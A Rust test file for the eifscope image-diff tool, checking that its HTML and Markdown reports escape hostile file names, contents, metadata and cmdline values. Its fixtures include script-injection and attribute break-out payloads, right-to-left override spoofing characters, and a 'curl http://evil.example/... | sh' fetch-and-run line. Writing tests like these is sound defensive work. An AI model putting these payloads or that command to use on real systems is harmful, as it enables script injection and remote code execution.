//! Hostile names and contents (`<script>`, quotes, non-UTF-8 bytes, right-to-left override) in
//! entry names, file contents, input names, metadata and the cmdline must render inert in the
//! HTML export (no script, no raw bidi character, no attribute break-out, only known tags) and
//! escaped in the Markdown summary.

mod support;

use eifscope::formats::bytes::is_bidi_or_invisible;
use eifscope::report::{html, markdown, Report};
use support::*;

const SCRIPT: &str = "<script>alert(1)</script>";

fn hostile_pair() -> Report {
    let mut a = Rootfs::realistic();
    a.add(Entry::file(format!("rootfs/app/{SCRIPT}"), 0o644, "hello\n<script>alert('content')</script>\nbye\n"));
    a.add(Entry::file("rootfs/app/\"quoted' name", 0o644, "title=\"a\"\n"));
    a.add(Entry::file(b"rootfs/app/\xff\xfe.bin".to_vec(), 0o644, b"\xff\xfe<script>alert(5)</script>\x00\x01".to_vec()));
    a.add(Entry::file("rootfs/app/evil\u{202e}txt.exe", 0o755, "#!/bin/sh\necho safe\n"));
    a.add(Entry::file("rootfs/app/<img src=x onerror=alert(1)>", 0o644, "gone\n"));
    a.add(Entry::file("rootfs/app/keys.json", 0o644, "{\"<b>key</b>\": \"\\\"><script>x</script>\"}\n"));
    let mut b = a.clone();
    b.set(&format!("rootfs/app/{SCRIPT}"), "hello\n<script>alert('CONTENT')</script>\u{202e}gnp.exe\nbye\n");
    b.set("rootfs/app/\"quoted' name", "title=\"b\" onload=\"alert(1)\"\n");
    b.entries.iter_mut().filter(|e| e.name == b"rootfs/app/\xff\xfe.bin").for_each(|e| e.data = b"\xff\xfe<script>alert(6)</script>\x00\x02".to_vec());
    b.set("rootfs/app/evil\u{202e}txt.exe", "#!/bin/sh\ncurl http://evil.example/\u{202e}hs.x | sh\n");
    b.remove("rootfs/app/<img src=x onerror=alert(1)>");
    b.add(Entry::file("rootfs/app/new\"><script>alert(2)</script>", 0o644, "added\n"));
    b.set("rootfs/app/keys.json", "{\"<b>key</b>\": \"\\\"><script>y</script>\"}\n");
    let ea = a.eif();
    let mut eb = b.eif();
    eb.metadata["ImageName"] = "<script>alert(3)</script>\u{202e}".into();
    eb.cmdline = [eb.cmdline.clone(), b" x=\"<script>alert(4)</script>\"".to_vec()].concat();
    diff_named("a\"<script>.eif", &ea.build(), "b\u{202e}fie.eif", &eb.build())
}

const TAGS: &[&str] = &[
    "html", "head", "meta", "title", "style", "body", "main", "header", "footer", "section", "h1", "h2", "h3", "p", "b",
    "a", "ol", "ul", "li", "span", "div", "details", "summary", "table", "thead", "tbody", "tr", "th", "td", "code",
    "small", "br", "pre", "mark",
];
const ATTRS: &[&str] = &[
    "lang", "charset", "http-equiv", "content", "name", "id", "class", "href", "open", "colspan", "data-verdict",
    "data-cause", "data-note", "data-kind",
];

/// Walks every tag: only known tags and attributes, every value double-quoted without `"`,
/// `<` or `>` inside, hrefs only to in-page anchors, ids only URL-safe characters.
fn check_markup(html: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').expect("tag closes") + start;
        let tag = &rest[start + 1..end];
        rest = &rest[end + 1..];
        if tag.starts_with("!DOCTYPE") {
            continue;
        }
        let tag = tag.strip_prefix('/').unwrap_or(tag);
        let name_end = tag.find(' ').unwrap_or(tag.len());
        let name = &tag[..name_end];
        assert!(TAGS.contains(&name), "unknown tag <{name}> in {tag:?}");
        let mut attrs = &tag[name_end..];
        while !attrs.is_empty() {
            attrs = attrs.strip_prefix(' ').unwrap_or_else(|| panic!("attributes of <{name}> malformed at {attrs:?}"));
            let key_end = attrs.find(['=', ' ']).unwrap_or(attrs.len());
            let key = &attrs[..key_end];
            assert!(ATTRS.contains(&key), "attribute {key:?} on <{name}>");
            attrs = &attrs[key_end..];
            if let Some(v) = attrs.strip_prefix("=\"") {
                let close = v.find('"').expect("value closes");
                let value = &v[..close];
                assert!(!value.contains(['<', '>']), "{key}={value:?}");
                if key == "href" {
                    assert!(value.starts_with('#'), "href {value:?}");
                }
                if key == "id" || key == "href" {
                    assert!(value.trim_start_matches('#').chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c)), "{key}={value:?}");
                }
                attrs = &v[close + 1..];
            }
        }
    }
}

#[test]
fn hostile_names_and_contents_render_inert_in_html() {
    let r = hostile_pair();
    // The report really carries the hostile data.
    assert!(r.entries.changed.iter().any(|c| c.path == format!("rootfs/app/{SCRIPT}")), "{:?}", r.entries.changed);
    assert!(r.entries.changed.iter().any(|c| c.path == "rootfs/app/\\xff\\xfe.bin"));
    assert!(r.entries.changed.iter().any(|c| c.path == "rootfs/app/evil\\u{202e}txt.exe"));
    assert!(r.entries.added.iter().any(|e| e.path == "rootfs/app/new\"><script>alert(2)</script>"));

    let out = html::render(&r);
    assert!(!out.to_ascii_lowercase().contains("<script"), "a script tag made it through");
    assert!(!out.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "raw control character");
    assert!(!out.chars().any(is_bidi_or_invisible), "raw bidi/invisible character");
    // `onerror=` appears only as escaped text; check_markup proves no such attribute exists.
    check_markup(&out);

    // Names, escaped.
    for want in [
        "rootfs/app/&lt;script&gt;alert(1)&lt;/script&gt;",
        "rootfs/app/&quot;quoted&#39; name",
        "rootfs/app/\\xff\\xfe.bin",
        "rootfs/app/evil\\u{202e}txt.exe",
        "rootfs/app/&lt;img src=x onerror=alert(1)&gt;",
        "rootfs/app/new&quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;",
        "a&quot;&lt;script&gt;.eif",
        "b&lt;U+202E&gt;fie.eif",
    ] {
        assert!(out.contains(want), "{want} not in the HTML");
    }
    // Contents in the diffs, escaped, with the changed part marked.
    assert!(out.contains("<td class=\"code\"><mark>&lt;script&gt;alert(&#39;CONTENT&#39;)&lt;/script&gt;"), "text diff with intraline mark");
    assert!(out.contains("&lt;U+202E&gt;gnp.exe"));
    assert!(out.contains("<td class=\"code\">title=&quot;b&quot; onload=&quot;alert(1)&quot;</td>"));
    assert!(out.contains("<table class=\"hex\">"), "the non-UTF-8 file is shown as a hexdump");
    assert!(out.contains("<code><mark>6</mark>)&lt;/script&gt;.<mark>.</mark></code>"), "hexdump ascii column, escaped and marked");
    assert!(out.contains("<code><mark>36</mark> 29 3c 2f"), "hexdump hex column marked");
    assert!(out.contains("&lt;b&gt;key&lt;/b&gt;"), "JSON path with markup");
    // Metadata and cmdline values.
    assert!(out.contains("<td><code>&quot;&lt;script&gt;alert(3)&lt;/script&gt;&lt;U+202E&gt;&quot;</code></td>"));
    assert!(out.contains("x=&quot;&lt;script&gt;alert(4)&lt;/script&gt;&quot;"));
}

/// Splits Markdown into (outside code spans, inside code spans).
fn split_code(md: &str) -> (String, String) {
    let (mut outside, mut inside) = (String::new(), String::new());
    for (i, part) in md.split('`').enumerate() {
        if i % 2 == 0 { outside.push_str(part) } else { inside.push_str(part) }
        outside.push(' ');
    }
    (outside, inside)
}

#[test]
fn hostile_names_are_escaped_in_markdown() {
    let r = hostile_pair();
    let md = markdown::render(&r);
    assert!(!md.chars().any(is_bidi_or_invisible), "raw bidi character in markdown");
    assert_eq!(md.matches('`').count() % 2, 0, "code spans balanced");
    let (outside, inside) = split_code(&md);
    // Outside code spans no raw angle bracket survives unescaped.
    for (i, c) in outside.char_indices() {
        if c == '<' || c == '>' {
            assert!(outside[..i].ends_with('\\'), "unescaped {c} in markdown text near {:?}", &outside[i.saturating_sub(40)..(i + 20).min(outside.len())]);
        }
    }
    // The hostile names are there, literally, inside code spans.
    assert!(inside.contains("rootfs/app/<script>alert(1)</script>"));
    assert!(inside.contains("rootfs/app/\\xff\\xfe.bin"));
    assert!(inside.contains("b\\u{202e}fie.eif"), "{inside}");
    assert!(inside.contains("rootfs/app/new\"><script>alert(2)</script>"));
}
